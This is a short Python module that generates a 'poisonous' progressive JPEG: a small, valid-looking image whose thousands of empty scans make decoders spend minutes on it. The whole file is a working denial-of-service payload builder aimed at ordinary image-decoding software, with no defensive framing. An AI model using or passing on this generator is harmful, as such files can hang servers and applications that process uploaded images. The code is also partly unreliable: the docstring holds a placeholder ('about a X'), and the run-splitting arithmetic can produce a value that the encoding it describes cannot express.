"""A small valid JPEG that takes minutes to decode: thousands of empty progressive scans."""

import struct

SIDE = 4000  # pixels: 250,000 blocks of 8 x 8, which every scan visits
LONGEST_RUN = 0x7FFF  # blocks that one end-of-band symbol can skip (ITU-T T.81, G.1.2.2)


def poisonous_jpeg(scans: int) -> bytes:
    """A grey progressive JPEG of SIDE x SIDE pixels with so many scans of AC coefficients, all zero.

    A scan is some 25 bytes of file and about a X; decoders must do all of them for one pixel.
    """
    frame = _segment(0xC2, struct.pack(">BHHB3B", 8, SIDE, SIDE, 1, 1, 0x11, 0))
    quantisation = _segment(0xDB, bytes([0]) + bytes([1] * 64))
    table = _segment(0xC4, bytes([0x10, 1] + [0] * 15 + [0xE0]))  # code 0: end of band 14
    scan = _segment(0xDA, bytes([1, 1, 0, 1, 63, 0])) + _empty_blocks((SIDE // 8) ** 2)
    return b"\xff\xd8" + quantisation + frame + table + scan * scans + b"\xff\xd9"


def _empty_blocks(blocks: int) -> bytes:
    """Entropy-coded data that skips so many blocks: code 0, then 14 bits, the length of the run less 2^14."""
    bits = ""
    while blocks:
        run = min(blocks, LONGEST_RUN)
        if 0 < blocks - run < 1 << 14:
            run -= 1 << 14  # what is left for the last symbol must be expressible, too
        bits += f"0{run - (1 << 14):014b}"
        blocks -= run
    bits += "1" * (-len(bits) % 8)
    data = int(bits, 2).to_bytes(len(bits) // 8, "big")
    return data.replace(b"\xff", b"\xff\x00")


def _segment(marker: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content
